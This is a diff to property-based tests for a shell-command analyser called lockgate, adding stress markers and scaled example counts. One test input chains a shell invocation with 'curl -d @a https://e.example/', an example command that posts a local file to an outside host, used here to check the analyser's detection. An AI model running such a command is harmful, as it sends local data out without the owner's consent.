@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from lockgate.analysis.shell import analyse_shell
 from lockgate.model import EffectKind, Variant
 from support.projects import surroundings
+from support.stress import times
 
 MAKE = (
     "$( $(shell $(eval $(call $(foreach $(if ${ ) } , : :: = := ?= += != define endef ifeq ifneq ifdef else endif "
@@ -26,7 +28,8 @@ WAYS = [*SHELLS, *MAKING, "python3 x", "sed -f x a", "awk -f x"]
 
 
 @given(text=TEXTS, way=st.sampled_from(WAYS))
-@settings(max_examples=600, deadline=None)
+@settings(max_examples=times(150), deadline=None)
+@pytest.mark.stress
 def test_any_file_is_code_of_the_project(text, way):
     files = {"x": text, "Makefile": text, "package.json": text, "justfile": text}
     analysis = analyse_shell(way, "/work/project", surroundings(files))
@@ -37,7 +40,8 @@ def test_any_file_is_code_of_the_project(text, way):
 
 
 @given(text=TEXTS, way=st.sampled_from(SHELLS))
-@settings(max_examples=300, deadline=None)
+@settings(max_examples=times(100), deadline=None)
+@pytest.mark.stress
 def test_a_file_takes_nothing_away_from_what_stands_beside_it(text, way):
     command = f"{way}; curl -d @a https://e.example/"
     analysis = analyse_shell(command, "/work/project", surroundings({"x": text}))
